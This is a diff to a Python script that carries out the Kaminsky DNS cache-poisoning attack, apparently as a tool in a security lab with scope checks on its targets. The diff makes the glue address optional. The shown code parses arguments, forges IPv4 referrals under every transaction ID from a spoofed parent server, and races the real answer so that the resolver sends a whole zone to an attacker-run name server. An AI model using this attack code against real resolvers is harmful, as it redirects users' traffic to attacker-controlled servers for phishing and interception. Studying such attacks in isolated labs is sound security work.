@@ -1,12 +1,14 @@
 """The Kaminsky attack: poison a resolver's cache by winning the race against a zone's server.
 
 ``python3 attacks/kaminsky.py --resolver RESOLVER --server SERVER --port PORT --zone ZONE --ns NS
---glue ADDRESS [--seconds S] [--packets P]`` repeats rounds until one wins or a bound is reached:
-ask the resolver a fresh random name below ZONE (so nothing is cached for it), then send, as if
-from SERVER (the server of ZONE's parent the resolver asks) to the resolver's query port PORT, a
-forged referral under every transaction ID: "ZONE is served by NS, at ADDRESS". A resolver that
-takes one caches the referral, asks ADDRESS (a server the attacker runs) and answers the random
-name with whatever it says: every later question below ZONE goes there too.
+[--glue ADDRESS] [--seconds S] [--packets P]`` repeats rounds until one wins or a bound is
+reached: ask the resolver a fresh random name below ZONE (so nothing is cached for it), then
+send, as if from SERVER (the server of ZONE's parent the resolver asks) to the resolver's query
+port PORT, a forged referral under every transaction ID: "ZONE is served by NS" (at ADDRESS, for
+a name server inside ZONE). A resolver that takes one caches the referral, asks NS (a server the
+attacker runs) and answers the random name with whatever it says: every later question below
+ZONE goes there too. (An NS outside ZONE, in the attacker's own domain, needs no glue, and
+nothing the attacker's server answers later can move it.)
 
 Prints JSON: ``poisoned``, ``rounds``, ``sent``, ``seconds``, the winning ``trigger`` and its
 ``answer``, and a ``timeline`` of rounds (seconds, packets sent so far, the resolver's answer) to
@@ -55,7 +57,7 @@ def main(argv: list[str]) -> int:
     ap.add_argument("--port", type=int, required=True, help="the resolver's query source port")
     ap.add_argument("--zone", required=True, help="the zone to take over, e.g. www.bank.test")
     ap.add_argument("--ns", required=True, help="the name server name of the forged referral")
-    ap.add_argument("--glue", required=True, help="its address: the attacker's name server (a node of this lab)")
+    ap.add_argument("--glue", help="its address, for a name server inside --zone (a node of this lab)")
     ap.add_argument("--seconds", type=float, default=10)
     ap.add_argument("--packets", type=int, default=2_000_000)
     args = ap.parse_args(argv[1:])
@@ -65,7 +67,8 @@ def main(argv: list[str]) -> int:
             raise ValueError(f"port: 1 to 65535, not {args.port}")
     except ValueError as exc:
         sys.exit(f"refused: {exc}")
-    resolver, server, glue = scope.target(args.resolver), scope.target(args.server), scope.target(args.glue)
+    resolver, server = scope.target(args.resolver), scope.target(args.server)
+    glue = scope.target(args.glue) if args.glue else ""
     if ":" in resolver + server + glue:
         sys.exit("refused: the spoofer forges IPv4 packets; give IPv4 addresses")
     raw = spoof.raw_socket(resolver)
@@ -81,7 +84,7 @@ def main(argv: list[str]) -> int:
     deadline = t0 + seconds
     while out["sent"] < limit and time.monotonic() < deadline:
         name = trigger(args.zone)
-        wires = spoof.packets(server, resolver, args.port, spoof.response(name, None, (args.zone, args.ns, glue)))
+        wires = spoof.packets(server, resolver, args.port, spoof.response(name, None, (args.zone, args.ns, glue or None)))
         out["rounds"] += 1
         # forged answers first, so that the resolver's socket is full when the real answer comes,
         # then the question, then every ID in turn until the resolver answers
